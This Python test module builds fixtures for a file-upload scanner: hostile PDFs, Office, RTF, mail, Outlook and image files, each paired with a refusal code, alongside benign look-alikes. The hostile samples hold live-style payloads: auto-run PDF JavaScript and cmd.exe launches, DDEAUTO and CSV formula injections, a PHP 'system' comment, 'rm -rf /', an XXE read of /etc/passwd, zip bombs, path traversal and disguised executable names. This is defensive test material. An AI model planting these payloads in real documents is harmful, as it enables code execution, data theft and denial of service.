"""Files made to harm whoever keeps or opens them, with the code each is refused with."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

from tests import files
from tests.reviews import hostile

ZIP = files.archive({"evil.class": b"\xca\xfe\xba\xbe"})
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-" + b"TEST-FILE!$H+H*"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 600
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def pdf_with(*objects: bytes, catalog: bytes = b"") -> bytes:
    """Return a PDF of one page; ``catalog`` goes into its catalogue, ``objects`` are 4 and up."""
    return hostile.assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
            *objects,
        ]
    )


def packed(inner: bytes) -> bytes:
    """Return an object stream that holds one object."""
    body = zlib.compress(b"9 0 " + inner)
    return b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>" % len(body) + (
        b"\nstream\n" + body + b"\nendstream"
    )


def bomb_of_objects() -> bytes:
    return packed(b"<< /A (" + b"a" * (17 * 1024 * 1024) + b") >>")


def docx_with(relations: str = "", /, **parts: bytes) -> bytes:
    """Return a Word file; ``relations`` are XML, ``parts`` go below ``word/``."""
    xml = f"<Relationships>{relations}</Relationships>".encode()
    return files.office("docx", **{"_rels/document.xml.rels": xml} | parts)


def relation(kind: str, target: str, mode: str = "External") -> str:
    return f'<Relationship Type="{RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/>'


def docx_saying(*parts: str, encoding: str = "utf-8") -> bytes:
    """Return a Word file whose text holds a field, its code in these parts."""
    code = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in parts)
    begin, end = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "end"))
    text = f'<w:document xmlns:w="w"><w:p>{begin}{code}{end}</w:p></w:document>'
    return docx_with(**{"document.xml": text.encode(encoding)})


def office_with(kind: str, name: str, xml: str) -> bytes:
    return files.office(kind, **{name: xml.encode()})


def zip_bomb(size: int = 64 * 1024 * 1024) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        target.writestr("[Content_Types].xml", files.content_types(files.MAIN["xlsx"]))
        with target.open("xl/worksheets/sheet1.xml", "w") as part:
            for _megabyte in range(size // 1024 // 1024):
                part.write(b"0" * 1024 * 1024)
    return out.getvalue()


def overlapping() -> bytes:
    """Return an Office file whose directory names one entry's bytes many times."""
    whole = bytearray(files.office("docx", **{"media/image1.png": files.image("PNG") * 3}))
    end = whole.rfind(b"PK\x05\x06")
    start = struct.unpack_from("<I", whole, end + 16)[0]
    last = whole.rfind(b"PK\x01\x02")
    entry = bytes(whole[last:end])
    name = b"word/media/image1.png"
    more = b"".join(entry.replace(name, b"word/media/imag%03d.png" % n) for n in range(300))
    more = more.replace(
        struct.pack("<H", len(name)) + entry[30:46], struct.pack("<H", len(name) + 2) + entry[30:46]
    )
    directory = bytes(whole[start:end]) + more
    tail = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 303, 303, len(directory), start, 0)
    return bytes(whole[:start]) + directory + tail


def doubled() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        target.writestr("[Content_Types].xml", files.content_types(files.MAIN["docx"]))
        target.writestr("word/document.xml", b"<document/>")
        target.writestr("word/Document.xml", b"<other/>")
    return out.getvalue()


def mail_with(
    name: str, content_type: str = "application/octet-stream", content: str = "AA=="
) -> bytes:
    return (
        b"From: a@partner.example\r\nTo: b@customer.example\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\n\r\nSee below.\r\n--x\r\n'
        + f"Content-Type: {content_type}\r\nContent-Disposition: attachment;\r\n {name}\r\n".encode()
        + b"Content-Transfer-Encoding: base64\r\n\r\nAA==\r\n--x--\r\n"
    )


def mail_in_mail() -> bytes:
    inner = mail_with('filename="invoice.js"').decode()
    return (
        b"From: a@partner.example\r\nTo: b@customer.example\r\n"
        b'Content-Type: multipart/mixed; boundary="y"\r\n\r\n--y\r\n'
        b"Content-Type: message/rfc822\r\n\r\n" + inner.encode() + b"\r\n--y--\r\n"
    )


def message(streams: dict[str, bytes], *, small: bool = True) -> bytes:
    """Return an Outlook message with these streams, in small sectors or in whole ones."""
    sector = 512
    streams = {"__properties_version1.0": b"\x00" * 32, **streams}
    entries, body, table = [b""], b"", list[int]()
    mini, mini_table = b"", list[int]()

    def add(content: bytes) -> int:
        nonlocal body
        first, count = len(table), max(1, -(-len(content) // sector))
        body += content.ljust(count * sector, b"\x00")
        table.extend([*range(first + 1, first + count), 0xFFFFFFFE])
        return first

    for name, content in streams.items():
        if small:
            first, count = len(mini_table), max(1, -(-len(content) // 64))
            mini += content.ljust(count * 64, b"\x00")
            mini_table.extend([*range(first + 1, first + count), 0xFFFFFFFE])
        else:
            content = content.ljust(4096, b"\x00")
            first = add(content)
        entries.append(_entry(name, 2, first, len(content)))
    container = add(mini) if mini else 0xFFFFFFFE
    coded = struct.pack(f"<{len(mini_table)}I", *mini_table)
    mini_at = add(coded + b"\xff" * (-len(coded) % sector)) if mini else 0xFFFFFFFE
    entries[0] = _entry("Root Entry", 5, container, len(mini))
    directory = add(b"".join(entries))
    table_at = len(table)
    table.append(0xFFFFFFFD)
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16
    header += struct.pack("<HHHHHHIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 0, 0, 1)
    header += struct.pack("<IIIIIII", directory, 0, 4096, mini_at, 1 if mini else 0, 0xFFFFFFFE, 0)
    header += struct.pack("<109I", table_at, *[0xFFFFFFFF] * 108)
    return header + body + struct.pack("<128I", *(table + [0xFFFFFFFF] * 128)[:128])


def _entry(name: str, kind: int, first: int, size: int) -> bytes:
    encoded = (name + "\x00").encode("utf-16-le")
    head = encoded.ljust(64, b"\x00") + struct.pack("<HBB", len(encoded), kind, 1)
    return head.ljust(116, b"\x00") + struct.pack("<III", first, size, 0)


def png_that_claims(width: int, height: int) -> bytes:
    """Return a small PNG whose header promises so many dots."""
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    chunks = [(b"IHDR", header), (b"IDAT", zlib.compress(b"\x00" * 100)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        for kind, body in chunks
    )


def png_with_packed_text() -> bytes:
    """Return a PNG with a note that unpacks to 70 MB."""
    note = b"note\x00\x00" + zlib.compress(b"a" * 70 * 1024 * 1024, 9)
    chunk = struct.pack(">I", len(note)) + b"zTXt" + note
    chunk += struct.pack(">I", zlib.crc32(b"zTXt" + note))
    good = files.image("PNG")
    return good[:33] + chunk + good[33:]


def jpeg_that_claims(width: int, height: int) -> bytes:
    good = bytearray(files.image("JPEG"))
    struct.pack_into(">HH", good, good.find(b"\xff\xc0") + 5, height, width)
    return bytes(good)


def tiff_that_claims(width: int, height: int) -> bytes:
    tags = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1)]
    tags += [(262, 3, 1, 1), (273, 4, 1, 8), (278, 4, 1, height), (279, 4, 1, 1)]
    directory = struct.pack("<H", len(tags)) + b"".join(struct.pack("<HHII", *tag) for tag in tags)
    return b"II*\x00" + struct.pack("<I", 8) + directory + struct.pack("<I", 0) + b"\x00" * 64


def tiff_in_a_ring() -> bytes:
    directory = struct.pack("<HHHIII", 1, 256, 3, 1, 1, 8)
    return b"II*\x00" + struct.pack("<I", 8) + directory + b"\x00" * 64


def with_comment(jpeg: bytes, comment: bytes) -> bytes:
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + jpeg[2:]


SCRIPT = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"

HOSTILE: dict[str, tuple[str, str, Callable[[], bytes]]] = {
    # --- PDFs that do something -----------------------------------------------------------------
    "pdf: script when opened": ("a.pdf", "POE-02", lambda: pdf_with(SCRIPT, catalog=b"/OpenAction 4 0 R")),
    "pdf: script in the catalogue": ("a.pdf", "POE-02", lambda: pdf_with(catalog=b"/OpenAction<</S/JavaScript/JS(x)>>")),
    "pdf: script, spelled with escapes": (
        "a.pdf", "POE-02", lambda: pdf_with(b"<< /#53 /J#61vaScr#69pt /JS (x) >>", catalog=b"/OpenAction 4 0 R")),
    "pdf: script behind a comment": ("a.pdf", "POE-02", lambda: pdf_with(b"<</S%quiet\n/JavaScript /JS (x)>>")),
    "pdf: name of the script elsewhere": (
        "a.pdf", "POE-02", lambda: pdf_with(b"<< /S 5 0 R /JS (x) >>", b"/JavaScript", catalog=b"/OpenAction 4 0 R")),
    "pdf: scripts by name": (
        "a.pdf", "POE-02", lambda: pdf_with(catalog=b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>")),
    "pdf: script when a field is left": ("a.pdf", "POE-02", lambda: pdf_with(b"<< /AA << /Bl << /S/JavaScript/JS(x) >> >> >>")),
    "pdf: script in an object stream": ("a.pdf", "POE-02", lambda: pdf_with(packed(SCRIPT))),
    "pdf: script in a stream of a hidden name": (
        "a.pdf", "POE-02", lambda: pdf_with(packed(SCRIPT).replace(b"/ObjStm", b"/Obj#53tm"))),
    "pdf: object stream that can't be read": (
        "a.pdf", "POE-04", lambda: pdf_with(packed(SCRIPT).replace(b"/FlateDecode", b"/NoneSuchxxx"))),
    "pdf: starts a program": ("a.pdf", "POE-02", lambda: pdf_with(b"<< /S /Launch /F (cmd.exe) >>", catalog=b"/OpenAction 4 0 R")),
    "pdf: sends what is typed": ("a.pdf", "POE-02", lambda: pdf_with(b"<< /S /SubmitForm /F (https://x.example/) >>")),
    "pdf: takes data in": ("a.pdf", "POE-02", lambda: pdf_with(b"<< /S /ImportData /F (x.fdf) >>")),
    "pdf: opens a file within": ("a.pdf", "POE-02", lambda: pdf_with(b"<< /S /GoToE /F (x) >>")),
    "pdf: carries a file": (
        "a.pdf", "POE-02", lambda: pdf_with(
            b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream",
            b"<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>",
            catalog=b"/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>")),
    "pdf: carries a file without saying so": ("a.pdf", "POE-02", lambda: pdf_with(b"<</F(a)/EF<</F 9 0 R>>>>")),
    "pdf: film with a program": ("a.pdf", "POE-02", lambda: pdf_with(b"<< /Subtype /RichMedia >>")),
    "pdf: film, written closely": ("a.pdf", "POE-02", lambda: pdf_with(b"<</Type/Annot/Subtype/RichMedia>>")),
    "pdf: scripts by name, written closely": (
        "a.pdf", "POE-02", lambda: pdf_with(catalog=b"/Names<</Dests 5 0 R/JavaScript 6 0 R>>")),
    "pdf: opens a file of a share": (
        "a.pdf", "POE-02", lambda: pdf_with(b"<</S/GoToR/F(\\\\\\\\203.0.113.5\\\\x)>>", catalog=b"/OpenAction 4 0 R")),
    "pdf: form of its own kind": ("a.pdf", "POE-02", lambda: pdf_with(catalog=b"/AcroForm << /XFA [] >>")),
    "pdf: bomb of objects": ("a.pdf", "POE-04", lambda: pdf_with(bomb_of_objects())),
    "pdf: locked": ("a.pdf", "POE-04", lambda: files.pdf(password="x")),
    "pdf: locked, opens without a password": (
        "a.pdf", "POE-04", lambda: files.pdf().replace(b"/Root", b"/Encrypt << /Filter /Standard /V 1 /R 2 >> /Root")),
    "pdf: cut off": ("a.pdf", "POE-04", lambda: files.pdf()[:200]),
    "pdf: without pages": ("a.pdf", "POE-04", lambda: hostile.assembled([b"<< /Type /Catalog >>"])),
    # --- two files in one -----------------------------------------------------------------------
    "pdf and zip": ("a.pdf", "POE-02", lambda: files.pdf() + ZIP),
    "pdf and zip with a tail": ("a.pdf", "POE-02", lambda: files.pdf() + ZIP + b"\n" * 100),
    "pdf behind a page": ("a.pdf", "POE-02", lambda: b"<html><script>x</script>" + files.pdf()),
    "pdf behind a program": ("a.pdf", "POE-02", lambda: EXE[:64] + files.pdf()),
    "pdf with a page in its head": ("a.pdf", "POE-02", lambda: b"%PDF-1.7\n%<script>x</script>\n" + files.pdf()),
    "png and zip": ("a.png", "POE-02", lambda: files.image("PNG") + ZIP),
    "jpg and zip": ("a.jpg", "POE-02", lambda: files.image("JPEG") + ZIP),
    "jpg with a page as comment": (
        "a.jpg", "POE-02", lambda: with_comment(files.image("JPEG"), b"<script>alert(1)</script>")),
    "jpg with php as comment": ("a.jpg", "POE-02", lambda: with_comment(files.image("JPEG"), b"<?php system('id');")),
    "tif and zip": ("a.tif", "POE-02", lambda: files.image("TIFF") + ZIP),
    "rtf and zip": ("a.rtf", "POE-02", lambda: b"{\\rtf1 x}" + ZIP + b"}"),
    "docx behind a program": ("a.docx", "POE-02", lambda: EXE + files.office("docx")),
    "docx behind another zip": ("a.docx", "POE-04", lambda: ZIP + files.office("docx")),
    "docx before a page": ("a.docx", "POE-04", lambda: files.office("docx") + b"<html><script>"),
    "pdf that is a docx": ("a.pdf", "POE-02", lambda: files.office("docx")),
    # --- in disguise ----------------------------------------------------------------------------
    "svg as png": ("a.png", "POE-02", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'),
    "svg as text": ("a.txt", "POE-02", lambda: b"\n <svg onload=alert(1)>"),
    "page as text": ("a.txt", "POE-02", lambda: b"<!doctype html><script>x</script>"),
    "page as table": ("a.csv", "POE-02", lambda: b"a,b\n<iframe src=x>"),
    "page in UTF-16": ("a.txt", "POE-02", lambda: "<html>".encode("utf-16")),
    "program as pdf": ("a.pdf", "POE-02", lambda: EXE),
    "program as text": ("a.txt", "POE-02", lambda: EXE),
    "script as text": ("a.txt", "POE-02", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "gif as jpg": ("a.jpg", "POE-02", lambda: b"GIF89a" + b"\x00" * 50),
    "text with a NUL": ("a.csv", "POE-02", lambda: b"a;b\n1\x00;2\n"),
    "text with an escape": ("a.txt", "POE-02", lambda: b"\x1b]0;title\x07"),
    "table that starts a program": ("a.csv", "POE-02", lambda: b"name;users\nTeams;=cmd|' /C calc'!A0\n"),
    "table that starts one far down": ("a.csv", "POE-02", lambda: b"a;1\n" * 40_000 + b'"@SUM(1)*cmd|\'/c x\'!A1";2\n'),
    # --- Office ---------------------------------------------------------------------------------
    "docm as docx": ("a.docx", "POE-02", lambda: files.office("docm")),
    "docx with macros": ("a.docx", "POE-02", lambda: docx_with(**{"vbaProject.bin": b"x"})),
    "docx with a control": ("a.docx", "POE-02", lambda: docx_with(**{"activeX/activeX1.bin": b"x"})),
    "docx with a packed object": ("a.docx", "POE-02", lambda: docx_with(**{"embeddings/oleObject1.bin": b"x"})),
    "docx with a program": ("a.docx", "POE-02", lambda: docx_with(**{"media/image1.exe": EXE})),
    "docx with a workbook with macros": ("a.docx", "POE-02", lambda: docx_with(**{"embeddings/Book.xlsm": b"x"})),
    "docx with a template of the web": (
        "a.docx", "POE-02", lambda: docx_with(relation("attachedTemplate", "https://x.example/t.dotm"))),
    "docx with a template of a share": (
        "a.docx", "POE-02", lambda: docx_with(relation("attachedTemplate", "file:///\\\\203.0.113.5\\t\\t.dotm"))),
    "docx with a picture of the web": ("a.docx", "POE-02", lambda: docx_with(relation("image", "http://x.example/p.png"))),
    "docx with an object of the web": (
        "a.docx", "POE-02", lambda: docx_with(relation("oleObject", "mhtml:http://x.example/x.html!x-usc:x"))),
    "docx with a share's frame": ("a.docx", "POE-02", lambda: docx_with(relation("frame", "//203.0.113.5/x"))),
    "docx with entities": (
        "a.docx", "POE-04", lambda: files.office("docx", **{"_rels/x.rels": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'})),
    "docx with a way out": ("a.docx", "POE-02", lambda: docx_with(**{"../../evil.txt": b"x"})),
    "docx with two parts of one name": ("a.docx", "POE-04", doubled),
    "xlsx that is a bomb": ("a.xlsx", "POE-04", zip_bomb),
    "docx with shared bytes": ("a.docx", "POE-04", overlapping),
    "docx with an object of another name": (
        "a.docx", "POE-02", lambda: docx_with(relation("oleObject", "media/data.bin", "Internal"), **{"media/data.bin": b"x"})),
    "docx with an object without a relation": ("a.docx", "POE-02", lambda: docx_with(**{"media/image1.wmf": files.compound(["x"])})),
    "docx with a program named a picture": ("a.docx", "POE-02", lambda: docx_with(**{"media/image1.png": EXE})),
    "docx that takes in another text": (
        "a.docx", "POE-02", lambda: docx_with(relation("aFChunk", "chunk.rtf", "Internal"), **{"chunk.rtf": b"{\\rtf1 x}"})),
    "docx that starts a program": ("a.docx", "POE-02", lambda: docx_saying("DDEAUTO c:\\\\cmd.exe", "/k calc")),
    "docx that starts a program, in pieces": ("a.docx", "POE-02", lambda: docx_saying(" D", "&#68;", "E c:\\\\cmd.exe")),
    "docx that starts a program, in UTF-16": ("a.docx", "POE-02", lambda: docx_saying("DDE cmd x", encoding="utf-16")),
    "docx with a field that fetches": (
        "a.docx", "POE-02", lambda: office_with("docx", "header1.xml", '<w:hdr xmlns:w="w"><w:fldSimple w:instr="INCLUDEPICTURE &quot;\\\\\\\\203.0.113.5\\\\x&quot;"/></w:hdr>')),
    "docx of ten million elements": (
        "a.docx", "POE-04", lambda: office_with("docx", "x.xml", "<a>" + "<b>" * 9_000_000)),
    "docx of one long word": ("a.docx", "POE-04", lambda: office_with("docx", "x.xml", f'<a b="{"x" * 9_000_000}"/>')),
    "xlsx that starts a program": (
        "a.xlsx", "POE-02", lambda: office_with("xlsx", "link.xml", '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>')),
    "xlsx that fetches when opened": (
        "a.xlsx", "POE-02", lambda: office_with("xlsx", "c.xml", '<connections><connection id="1" refreshOnLoad="1"/></connections>')),
    "pptx that starts a program": (
        "a.pptx", "POE-02", lambda: office_with("pptx", "s.xml", '<p:sld xmlns:p="p"><hlinkMouseOver action="ppaction://program"/></p:sld>')),
    "docx locked": ("a.docx", "POE-04", lambda: files.compound(["EncryptionInfo", "EncryptedPackage"])),
    "rtf with an object": ("a.rtf", "POE-02", lambda: b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}"),
    "rtf with a template of the web": ("a.rtf", "POE-02", lambda: b"{\\rtf1{\\*\\template http://x.example/t}}"),
    "rtf that starts a program": ("a.rtf", "POE-02", lambda: b'{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe "/k x"}}}'),
    "rtf that starts a program, in pieces": (
        "a.rtf", "POE-02", lambda: b"{\\rtf1{\\field{\\*\\fldinst {\\rtlch\\fcs1" + b"\\f1" * 60 + b" D}{\\'44EAUTO c:\\\\cmd.exe}}}}"),
    "rtf with a picture of the web": (
        "a.rtf", "POE-02", lambda: b'{\\rtf1{\\field{\\*\\fldinst {INCLUDEPICTURE "http://x.example/p.png"}}}}'),
    # --- mail -----------------------------------------------------------------------------------
    "mail with a program": ("a.eml", "POE-02", lambda: mail_with('filename="invoice.exe"')),
    "mail with a program, named twice": ("a.eml", "POE-02", lambda: mail_with('filename="invoice.pdf.scr "')),
    "mail with a program, name in words": ("a.eml", "POE-02", lambda: mail_with('filename="=?utf-8?B?aW52b2ljZS5leGU=?="')),
    "mail with a program, name in parts": (
        "a.eml", "POE-02", lambda: mail_with("filename*0=\"invoice.e\";\r\n filename*1=\"xe\"")),
    "mail with a program, name with percents": ("a.eml", "POE-02", lambda: mail_with("filename*=utf-8''invoice%2Ejs")),
    "mail with a program by its type": ("a.eml", "POE-02", lambda: mail_with('filename="a"', "application/x-msdownload")),
    "mail with a program, with two names": ("a.eml", "POE-02", lambda: mail_with('filename="a.pdf"; filename="a.exe"')),
    "mail with a program, lines ended otherwise": (
        "a.eml", "POE-02", lambda: mail_with('filename="a.exe"').replace(b"\r\n", b"\r")),
    "mail with a page": ("a.eml", "POE-02", lambda: mail_with('filename="login.html"')),
    "mail with a mail with a script": ("a.eml", "POE-02", mail_in_mail),
    "mail with a program in its text": ("a.eml", "POE-02", lambda: files.MAIL + b"begin 644 evil.exe\n#0V%T\n`\nend\n"),
    "web archive as mail": (
        "a.eml", "POE-02", lambda: b"From: <Saved>\r\nTo: x\r\nSnapshot-Content-Location: https://x.example/\r\n\r\n"),
    "message with a program by its name": (
        "a.msg", "POE-02", lambda: message({"__substg1.0_3707001F": "invoice.exe".encode("utf-16-le")})),
    "message with a program by its old name": (
        "a.msg", "POE-02", lambda: message({"__substg1.0_3704001E": b"INVOICE.SCR"}, small=False)),
    "message with a program by its content": (
        "a.msg", "POE-02", lambda: message({"__substg1.0_37010102": EXE}, small=False)),
    "message with a small program": ("a.msg", "POE-02", lambda: message({"__substg1.0_37010102": EXE[:200]})),
    "message with macros": ("a.msg", "POE-02", lambda: message({"_VBA_PROJECT": b"x"})),
    "message in a ring": ("a.msg", "POE-04", lambda: message({"__substg1.0_3707001F": b"x" * 9})[:700]),
    # --- pictures -------------------------------------------------------------------------------
    "png of a billion dots": ("a.png", "POE-04", lambda: png_that_claims(40_000, 40_000)),
    "png as long as a road": ("a.png", "POE-04", lambda: png_that_claims(2**31 - 1, 1)),
    "png of no size": ("a.png", "POE-04", lambda: png_that_claims(0, 0)),
    "png with a packed note": ("a.png", "POE-04", png_with_packed_text),
    "jpg of four billion dots": ("a.jpg", "POE-04", lambda: jpeg_that_claims(65_500, 65_500)),
    "tif of a billion dots": ("a.tif", "POE-04", lambda: tiff_that_claims(100_000, 100_000)),
    "tif in a ring": ("a.tif", "POE-04", tiff_in_a_ring),
    # --- names ----------------------------------------------------------------------------------
    "name of a program": ("proof.pdf.exe", "POE-02", files.pdf),
    "name with a hidden turn": ("proof\u202efdp.exe", "POE-02", files.pdf),
    "name with a NUL": ("proof.exe\x00.pdf.js", "POE-02", files.pdf),
    "name of a stream": ("proof.pdf::$DATA", "POE-02", files.pdf),
    "name with a dot behind": ("page.html.", "POE-02", files.pdf),
    "name without an end": ("proof", "POE-02", files.pdf),
    "name in other letters": ("proof.р\u0064f", "POE-02", files.pdf),
}  # fmt: skip
"""By what it is: the name it comes under, the code of its refusal, and how it is made."""


def picture_of(kind: str) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", (300, 200), "white").save(made, kind)
    return made.getvalue()


def honest_pdf_with_objects() -> bytes:
    """Return a PDF as office programs write it: packed objects, links, a form to fill in."""
    return pdf_with(
        packed(b"<< /S /URI /URI (https://x.example/Web/JavaScript/Launch) >>"),
        b"<< /S /GoTo /D [3 0 R /Fit] >>",
        b"<< /S /URI /URI (https://developer.example/docs/JavaScript) >>",
        catalog=b"/OpenAction 5 0 R /AcroForm << /Fields [] >> /JS_is_no_name 1",
    )


HONEST: dict[str, tuple[str, Callable[[], bytes]]] = {
    "pdf with links and packed objects": ("a.pdf", honest_pdf_with_objects),
    "pdf behind an empty line": ("a.pdf", lambda: b"\xef\xbb\xbf\r\n" + files.pdf()),
    "pdf with a long tail": ("a.pdf", lambda: files.pdf() + b"\r\n" * 300),
    "docx with a template of its writer": (
        "a.docx",
        lambda: docx_with(
            relation("attachedTemplate", "file:///C:\\Users\\ada\\Templates\\SoW.dotx")
            + relation("hyperlink", "https://customer.example/")
            + relation("attachedTemplate", "Normal.dotm")
        ),
    ),
    "docx with a chart's table": (
        "a.docx",
        lambda: docx_with(**{"embeddings/Microsoft_Excel_Sheet1.xlsx": b"x"}),
    ),
    "docx with a picture of a mail": (
        "a.docx",
        lambda: docx_saying(' INCLUDEPICTURE "cid:image001.png@01D5" \\* MERGEFORMAT '),
    ),
    "docx with a link in a field": (
        "a.docx",
        lambda: docx_saying(' HYPERLINK "https://customer.example/dde" '),
    ),
    "docx with a picture of its writer": (
        "a.docx",
        lambda: docx_saying(' INCLUDEPICTURE "C:\\\\Users\\\\ada\\\\logo.png" '),
    ),
    "xlsx with cells and a connection": (
        "a.xlsx",
        lambda: files.office(
            "xlsx",
            **{
                "sheet1.xml": b'<worksheet><c><f>SUM(A1)</f></c></worksheet>',
                "connections.xml": b'<connections><connection id="1"/></connections>',
            },
        ),
    ),
    "pptx with a jump": (
        "a.pptx",
        lambda: office_with("pptx", "s.xml", '<sld><hlinkClick action="ppaction://hlinksldjump"/></sld>'),
    ),
    "rtf with links": (
        "a.rtf",
        lambda: b'{\\rtf1{\\field{\\*\\fldinst {\\b HYPERLINK "https://x.example/dde" }}{\\fldrslt x}}}',
    ),
    "mail with a proof": ("a.eml", lambda: mail_with('filename="proof.pdf"', "application/pdf")),
    "mail with dashes": ("a.eml", lambda: files.MAIL + b"-----\r\n" * 5000 + b"-- \r\nAda\r\n"),
    "message with a proof": (
        "a.msg",
        lambda: message(
            {
                "__substg1.0_3707001F": "proof of work.pdf".encode("utf-16-le"),
                "__substg1.0_37010102": files.pdf(),
            },
            small=False,
        ),
    ),
    "table with a sum": ("a.csv", lambda: b"name;users\n=SUM(A1:A2);-12\n+49 30|123;x!\n"),
    "table of quotation marks": ("a.csv", lambda: b'"' * 2 * 1024 * 1024),
    "rtf of a letter": ("a.rtf", lambda: b"{\\rtf1{\\*\\template C:\\\\Normal.dotm}\\object x\\par}"),
    "png of a scan": ("a.png", lambda: picture_of("PNG")),
    "tif of a scan": ("a.tif", lambda: hostile.tiff_of(3)),
}  # fmt: skip
"""Files that look like those and are what people send."""
